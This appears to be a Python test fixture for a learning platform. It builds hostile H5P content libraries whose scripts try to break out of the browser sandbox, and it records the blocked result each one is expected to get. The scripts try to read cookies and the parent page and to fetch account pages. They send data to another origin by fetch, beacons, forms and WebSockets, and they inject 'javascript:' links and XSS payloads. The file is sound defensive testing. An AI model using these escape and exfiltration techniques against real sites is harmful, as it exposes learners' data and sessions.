"""Content types that want more than they may, and a small city for them: what a browser lets each of them do.

Every trick is a library of its own in a test namespace, installed as the office installs any other, with an activity in
one lesson. Its script leaves what it saw in `window.seen`.
"""

import io
import json
from typing import Any, NamedTuple

GONE = "its page is gone: an error page of the browser stands in the frame"
NO = "SecurityError"  # what a script is told that may not read
ERROR = "TypeError"  # … that may not send


class Trick(NamedTuple):
    does: str  # the body of an async function; `elsewhere` is another origin
    seen: Any  # what the script found
    profile: str = "strict"


#: `named` is the name of the error that `work` ends with, or what it gave.
SCRIPT = """
if (!window.H5P) parent.postMessage({ alive: typeof RTCPeerConnection }, "*");
window.Feind = window.Feind || {};
Feind.%(name)s = function (params) {
  H5P.EventDispatcher.call(this);
  const elsewhere = params.elsewhere, here = location.origin;
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const named = async (work) => {
    try { return String(await work()); } catch (error) { return error.name; }
  };
  const heard = (thing) => new Promise((done) => {
    for (const kind of ["load", "open", "message", "error"]) thing.addEventListener(kind, () => done(kind));
  });
  const put = (html) => document.querySelector(".h5p-content").insertAdjacentHTML("beforeend", html);
  const tell = (kind, said) => parent.postMessage({ h5p: kind, ...said }, "*");
  this.attach = ($box) => {
    $box.html("<p>Ein harmloser Satz.</p>");
    (async () => { %(does)s })().then((seen) => { window.seen = seen; }, (error) => { window.seen = String(error); });
  };
};
Feind.%(name)s.prototype = Object.create(H5P.EventDispatcher.prototype);
"""
TRICKS: dict[str, Trick] = {
    # --- what belongs to the learner ---
    "Cookie": Trick(
        """return [self.origin, await named(() => document.cookie), await named(() => { document.cookie = "a=b"; }),
          await named(() => cookieStore.getAll())];""",
        ["null", NO, NO, NO],
    ),
    "Storage": Trick(  # its own is one that forgets
        """localStorage.setItem("hers", "mine");
        return [localStorage.getItem("hers"), await named(() => indexedDB.open("x")), await named(() => caches.open("x"))];""",
        ["mine", NO, NO],
    ),
    "Parent": Trick(
        """return [await named(() => parent.document), await named(() => top.location.href),
          await named(() => parent.localStorage), await named(() => parent.fetch("/konto/")), String(frameElement),
          await named(() => parent.frames[0].document)];""",
        [NO, NO, NO, NO, "null", NO],
    ),
    "Account": Trick(
        """const get = (path, how) => named(async () => (await fetch(here + path, how)).status);
        return [await get("/konto/"), await get("/h5p/../konto/"), await get("/h5p/%2e%2e/konto/"),
          await get("/static/js/activity.js", { credentials: "include" }), await get("/konto/", { mode: "no-cors" }),
          await get("/lernen/", { method: "POST", mode: "no-cors", body: "{}" })];""",
        [ERROR] * 6,
    ),
    "AccountInFrame": Trick("""location.href = here + "/konto/"; await wait(9999);""", GONE),
    # --- ways out ---
    "Fetch": Trick(
        """const asked = new XMLHttpRequest();
        asked.open("GET", elsewhere);
        asked.send();
        return [await named(() => fetch(elsewhere)), await named(() => fetch(elsewhere, { mode: "no-cors" })),
          await heard(asked), await heard(new EventSource(elsewhere)),
          await heard(new WebSocket(elsewhere.replace("http", "ws")))];""",
        [ERROR, ERROR, "error", "error", "error"],
    ),
    "Picture": Trick(
        """const picture = new Image();
        picture.src = elsewhere;
        put(`<style>@import "${elsewhere}/a.css"; p { background: url(${elsewhere}/b.png); }</style>`);
        put(`<link rel="prefetch" href="${elsewhere}/c"><link rel="stylesheet" href="${elsewhere}/d">`);
        put(`<object data="${elsewhere}/e"></object><embed src="${elsewhere}/f"><iframe src="${elsewhere}/g"></iframe>`);
        put(`<video src="${elsewhere}/h" autoplay></video>`);
        return heard(picture);""",
        "error",
    ),
    "Beacon": Trick(  # "true" says only that it was asked to
        """return String([navigator.sendBeacon(elsewhere, "x"), navigator.sendBeacon(here + "/konto/abmelden/", "x")]);""",
        "true,true",
    ),
    "Script": Trick(
        """const script = document.head.appendChild(document.createElement("script"));
        script.src = elsewhere;
        const code = `try { importScripts("${elsewhere}"); postMessage("ran"); } catch (error) { postMessage(error.name); }`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        const answer = new Promise((done) => { worker.onmessage = (event) => done(event.data); });
        return [await heard(script), await named(() => import(elsewhere)), await answer];""",
        ["error", ERROR, "NetworkError"],
    ),
    "Leave": Trick("""location.href = elsewhere; await wait(9999);""", GONE),
    "Form": Trick(
        """put(`<form action="${elsewhere}" method="post"><input name="a"></form>`);
        document.querySelector("form").submit();
        await wait(9999);""",
        GONE,
    ),
    "FormOutside": Trick(
        """put(`<form action="${elsewhere}" method="post" target="_top"><input name="b"></form>`);
        document.querySelector("form").submit();
        return "stayed";""",
        "stayed",
    ),
    "Windows": Trick(
        """return [String(window.open(elsewhere)), String(window.open("about:blank", "_blank"))];""",
        ["null", "null"],
    ),
    "Top": Trick(
        """put(`<a href="javascript:top.location = 1" target="_top">Weiter</a><a href="${here}/konto/" target="_top">Weg</a>`);
        document.querySelectorAll("a").forEach((link) => link.click());
        return [await named(() => { top.location = elsewhere; }), await named(() => top.location.replace(elsewhere)),
          await named(() => { parent.frames[0].location = elsewhere; }), await named(() => parent.history.back())];""",
        [NO, NO, NO, NO],
    ),
    "History": Trick("""history.back(); history.go(-1); await wait(300); return "stayed";""", "stayed"),
    "Calls": Trick(
        """const call = new RTCPeerConnection({ iceServers: [{ urls: params.stun }] });
        call.createDataChannel("x");
        await call.setLocalDescription(await call.createOffer());
        await wait(800);
        return call.iceGatheringState;""",
        "ReferenceError: RTCPeerConnection is not defined",
    ),
    "CallsInFrame": Trick(  # a frame of its own would have what was taken away
        """const alive = [], script = H5PIntegration.loadedJs[0];
        addEventListener("message", (event) => event.data.alive && alive.push(event.data.alive));
        const html = `<iframe srcdoc='<script src="${script}"></` + `script>'></iframe>`;
        document.body.append(...new DOMParser().parseFromString(html, "text/html").body.childNodes);
        for (const mode of ["open", "closed"]) {
          const root = document.body.appendChild(document.createElement("div")).attachShadow({ mode });
          root.innerHTML = `<p>${html}</p>`;
        }
        const host = document.createElement("div");
        host.attachShadow({ mode: "open", clonable: true }).innerHTML = html;
        document.body.append(host.cloneNode(true));
        host.setHTMLUnsafe?.(`<div><template shadowrootmode="closed">${html}</template></div>`);
        document.body.append(host);
        put(html);
        await wait(800);
        return alive;""",
        [],
    ),
    # --- code ---
    "ServiceWorker": Trick(
        """return [await named(() => navigator.serviceWorker.register(here + "/static/js/activity.js")),
          await named(() => new SharedWorker(here + "/static/js/activity.js"))];""",
        [NO, NO],
    ),
    "Eval": Trick(
        """setTimeout("window.late = 1");
        await wait(50);
        return [await named(() => eval("1 + 1")), await named(() => new Function("return 2")()), String(window.late)];""",
        ["EvalError", "EvalError", "undefined"],
    ),
    "EvalAllowed": Trick(
        """return [await named(() => eval("1 + 1")), await named(() => parent.document),
          await named(() => fetch(elsewhere))];""",
        ["2", NO, ERROR],
        profile="eval",
    ),
    "Inline": Trick(
        """put(`<img src="data:," onerror="window.ran = 1"><button onclick="window.ran = 2">x</button>`);
        const script = document.head.appendChild(document.createElement("script"));
        script.textContent = "window.ran = 3";
        document.querySelector("button").click();
        await wait(100);
        return String(window.ran);""",
        "undefined",
    ),
    "InlineAllowed": Trick(
        """put(`<button onclick="window.ran = 2">x</button>`);
        document.querySelector("button").click();
        return [String(window.ran), await named(() => eval("1")), await named(() => parent.document)];""",
        ["2", "EvalError", NO],
        profile="inline",
    ),
    # --- nuisances ---
    "Dialogs": Trick(
        """const link = Object.assign(document.createElement("a"), { href: "data:,x", download: "virus.exe" });
        document.body.append(link);
        link.click();
        return [String(print()), String(alert("x")), String(confirm("x")), String(prompt("x"))];""",
        ["undefined", "undefined", "false", "null"],
    ),
    "Devices": Trick(
        """const wanted = /^(camera|microphone|geolocation|usb|serial|midi|display-capture)$/;
        return [String(document.featurePolicy.allowedFeatures().filter((name) => wanted.test(name))),
          await named(() => navigator.clipboard.readText()), await named(() => Notification.requestPermission()),
          await named(() => document.body.requestPointerLock())];""",
        ["", "NotAllowedError", "denied", NO],
    ),
    # --- messages to the page around ---
    "Heights": Trick(
        """await wait(300);
        for (const height of [NaN, Infinity, -5, "9", null, "<img src=x onerror=alert(1)>", 1e9]) tell("height", { height });
        return "told";""",
        "told",
    ),
    "Garbage": Trick(
        """const all = [undefined, null, 0, 1, "", "x", "{", "[]", "null", "1", "\\"x\\"", [], "[".repeat(100000)];
        for (const kind of ["height", "state", "statement", "link", "ready", "save", "__proto__", "", 7]) {
          for (const one of all) {
            tell(kind, { state: one, statement: one, data: one, url: one, height: one, final: true });
          }
        }
        for (const one of all) parent.postMessage(one, "*");
        return "told";""",
        "told",
    ),
    "BigState": Trick(
        """tell("state", { state: JSON.stringify("x".repeat(10 << 20)) });
        tell("statement", { final: true, statement: JSON.stringify({ x: "x".repeat(10 << 20) }) });
        return "told";""",
        "told",
    ),
    "Links": Trick(
        """for (const url of ["javascript:alert(1)", " javascript:alert(1)", "data:text/html,x", "/konto/abmelden/", "file:///",
          "https://" + "a".repeat(100000)]) tell("link", { url });
        return "told";""",
        "told",
    ),
    "Html": Trick(
        """const html = `<img src="data:," onerror="window.hurt = 1"><script>window.hurt = 2</` + `script>`;
        const verb = { id: "http://adlnet.gov/expapi/verbs/completed", display: { "en-US": html } };
        const statement = { id: html, verb, feedback: html, state: html, stand: html,
          object: { id: html, definition: { name: { de: html } } }, result: { response: html, score: { raw: html } } };
        tell("statement", { final: true, statement: JSON.stringify(statement), data: JSON.stringify({ statement }) });
        return "told";""",
        "told",
    ),
}  # fmt: skip
#: Each needs a page of its own.
ALONE: dict[str, Trick] = {
    "Link": Trick(
        """put(`<a class="a" href="${elsewhere}/a" target="_blank">A</a> <a class="b" href="javascript:parent.hurt = 1">B</a>
          <a class="c" href="data:text/html,x" target="_blank">C</a>`);
        return "ready";""",
        "ready",
    ),
    "Flood": Trick(
        """for (let n = 0; n < 3000; n += 1) {
          const verb = { id: "http://adlnet.gov/expapi/verbs/completed" };
          tell("statement", { final: true, statement: JSON.stringify({ verb, n }), data: "null" });
          tell("state", { state: JSON.stringify({ n }) });
          tell("height", { height: 100 + (n % 500) });
          tell("link", { url: `${elsewhere}/${n}` });
        }
        return "told";""",
        "told",
    ),
    "Busy": Trick(
        """await wait(100);
        const until = Date.now() + 4000;
        while (Date.now() < until);
        return "over";""",
        "over",
    ),
}  # fmt: skip

SVG = """<svg xmlns="http://www.w3.org/2000/svg" onload="document.documentElement.id = 'ran'" id="still">
<script>document.documentElement.id = "ran"; fetch("/konto/");</script>
<image href="/konto/"/><circle r="4"/></svg>"""


def name_of(trick: str) -> Any:
    from h5p_lite.core.names import Name

    return Name(f"Feind.{trick}", 1, 0)


def bundle() -> io.BytesIO:
    """All of them as libraries, as the office takes them."""
    from tests.h5p_samples.packages import packed

    files: dict[str, Any] = {}
    fields = [{"name": field, "type": "text"} for field in ("elsewhere", "stun")]
    for name, trick in (TRICKS | ALONE).items():
        at = name_of(name).folder
        about = {
            "title": name,
            "machineName": f"Feind.{name}",
            "majorVersion": 1,
            "minorVersion": 0,
        }
        about |= {"patchVersion": 0, "runnable": 1, "preloadedJs": [{"path": "feind.js"}]}
        files[f"{at}/library.json"] = about
        files[f"{at}/semantics.json"] = fields
        files[f"{at}/feind.js"] = SCRIPT % {"name": name, "does": trick.does}
        files[f"{at}/bild.svg"] = SVG
    return packed(files)


def content_of(trick: str, params: dict[str, Any]) -> dict[str, Any]:
    """An activity without its library, as a provider uploads it."""
    main = name_of(trick)
    about = {"title": trick, "language": "de", "mainLibrary": main.machine_name}
    about |= {"embedTypes": ["iframe"], "preloadedDependencies": [main.as_dependency()]}
    return {"h5p.json": about, "content/content.json": params}


class Made(NamedTuple):
    """A course with activities."""

    address: str
    lesson: str
    items: dict[str, str]


def furnish(params: dict[str, Any]) -> None:
    """Inside `manage.py shell`: courses and people for `test_activities`, printed as JSON on the last line."""
    from demo.activities import activity
    from tenancy.lens import look, system
    from tests import factories
    from tests.factories import activities

    provider = factories.make_provider("feinde")
    assert activities.install(bundle()).state == "done"
    _judge()
    tricks = {
        trick: activities.make_activity(provider, content_of(trick, params))
        for trick in TRICKS | ALONE
    }
    with look(system("test")):
        sequence = activity(provider, "LernHN.Sequence")
    courses = {
        "tricks": _course(provider, tricks, 100),
        "quiz": _course(provider, {"quiz": sequence}, 60),
        "open": _course(provider, {"quiz": sequence}, 60),
    }
    people = {who: _learner(who, [made.address for made in courses.values()]) for who in LEARNERS}
    made = {name: course._asdict() for name, course in courses.items()}
    print(json.dumps({"courses": made, "people": people}))


#: Each has a test of their own.
LEARNERS = ("player", "forger", "victim", "reader")
MAIL = "vhs/e-mail-von-anfang-an"


def _judge() -> None:
    """The office decides what the scripts of each may do."""
    from h5p import actions
    from h5p_lite.models import Library
    from tenancy.lens import look, system

    with look(system("test")):
        for trick, says in (TRICKS | ALONE).items():
            library = Library.objects.get(machine_name=f"Feind.{trick}")
            words = {"profile": says.profile, "verdict": "recommended", "note": ""}
            actions.set_office_words(library, **words, by=None)


def _course(provider: Any, contents: dict[str, Any], share: int) -> Made:
    """Printed, of one lesson."""
    from courses.models import LessonPage
    from tenancy.lens import look, system
    from tests import factories
    from tests.factories import activities

    course = factories.make_course(provider, lessons=1)
    blocks = {
        name: activities.activity_block(one, pass_mark=share) for name, one in contents.items()
    }
    with look(system("test")):
        lesson = LessonPage.objects.child_of(course).get()
        lesson.body = [factories.block("text", "<p>Lesen.</p>"), *blocks.values()]
        lesson.save_revision().publish()
    items = {name: block["id"] for name, block in blocks.items()}
    return Made(f"{provider.slug}/{course.slug}", lesson.slug, items)


def _learner(who: str, addresses: list[str]) -> str:
    """Enrolled everywhere. Returns the key of their session."""
    from django.test import Client

    from courses.models import CatalogueEntry
    from learning.actions import enrol
    from tenancy.lens import look, system
    from tests import factories

    with look(system("test")):
        learner = factories.make_user(who.title(), f"{who}@lernende.example")
        known = CatalogueEntry.objects.filter(address__in=[*addresses, MAIL])
        [enrol(learner, entry) for entry in known.select_related("edition")]
    client = Client()
    client.force_login(learner)
    return str(client.session.session_key)
